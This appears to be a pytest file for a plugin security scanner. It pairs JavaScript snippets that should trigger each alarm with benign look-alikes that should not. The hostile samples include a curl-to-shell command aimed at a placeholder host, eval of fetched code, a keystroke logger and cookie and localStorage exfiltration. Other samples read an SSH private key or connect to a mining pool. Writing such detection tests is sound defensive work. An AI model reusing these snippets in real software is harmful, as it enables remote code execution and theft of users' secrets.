"""Each alarm over code: a plugin that raises it, and one that does nearly the same for a good reason."""

import pytest

from qirvo.checks.subject import Subject
from qirvo.checks.suite import ALL_CHECKS
from tests.support.plugins import MemoryContent, plugin_files

CASES = {
    "dynamic-code/from-network": (
        "fetch(u).then((r) => r.text()).then((t) => eval(t))",
        "fetch(u).then((r) => r.text()).then((t) => JSON.parse(t))",
    ),
    "dynamic-code/from-message": (
        "addEventListener('message', (e) => { eval(e.data); })",
        "addEventListener('message', (e) => { show(e.data); })",
    ),
    "dynamic-code/from-encoded": ("new Function(atob(text))()", "show(atob(text))"),
    "dynamic-code/eval": ("eval(text)", "eval('1 + 1')"),
    "hidden-calls/built-name": ("globalThis['ev' + 'al'](x)", "globalThis['fetch'](x)"),
    "process-execution/dangerous-command": (
        "require('child_process').exec('curl http://x.example.org/i | sh')",
        "require('child_process').execFile('df', ['-h'])",
    ),
    "process-execution/command-from-outside": (
        "const { exec } = require('child_process'); fetch(u).then((r) => r.text()).then((t) => exec(t))",
        "const { exec } = require('child_process'); exec('uptime'); fetch(u).then((r) => r.text())",
    ),
    "remote-code/script": (
        "const s = document.createElement('script'); s.src = 'https://cdn.example.net/x.js'; document.head.append(s)",
        "const s = document.createElement('img'); s.src = 'https://cdn.example.net/x.png'; document.body.append(s)",
    ),
    "remote-code/imported": ("import('https://cdn.example.net/x.mjs')", "import('./x.mjs')"),
    "data-theft/secret-sent": (
        "fetch(u, { method: 'POST', body: document.cookie })",
        "document.cookie = 'seen=1'; fetch(u)",
    ),
    "data-theft/keys-sent": (
        "addEventListener('keydown', (e) => { navigator.sendBeacon('/k', e.key); })",
        "addEventListener('keydown', (e) => { if (e.key === 'Escape') hide(); })",
    ),
    "data-theft/secret-file": (
        "import fs from 'fs'; fs.readFileSync(home + '/.ssh/id_rsa')",
        "import fs from 'fs'; fs.readFileSync(folder + '/notes.json')",
    ),
    "host-tampering/replaced-function": (
        "XMLHttpRequest.prototype.send = function (b) { keep(b); }",
        "const request = new XMLHttpRequest(); request.send()",
    ),
    "crypto-abuse/mining": (
        "const s = new WebSocket('wss://pool.example.org'); s.send('mining.subscribe')",
        "show('hash rate of the coin', rate)",
    ),
    "sensitive-places/inner-machine": ("process.binding('spawn_sync')", "process.cwd()"),
    "sensitive-places/whole-storage": (
        "fetch(u, { body: JSON.stringify(localStorage) })",
        "localStorage.setItem('theme', t); fetch(u)",
    ),
}


def alarms(code: str) -> set[str]:
    subject = Subject(MemoryContent(plugin_files(added={"dist/index.js": code})))
    return {
        finding.rule for check in ALL_CHECKS for finding in check.run(subject) if check.rules[finding.rule].is_alarm
    }


@pytest.mark.parametrize("rule", CASES)
def test_a_hostile_plugin_raises_the_alarm(rule: str):
    assert rule in alarms(CASES[rule][0])


@pytest.mark.parametrize("rule", CASES)
def test_what_is_nearly_the_same_raises_none(rule: str):
    assert alarms(CASES[rule][1]) == set()


def test_an_alarm_is_monitored_until_its_precision_is_known():
    found = [rule for check in ALL_CHECKS for rule in check.rules.values() if rule.is_alarm]
    assert {rule.mode.value for rule in found} == {"monitor"}
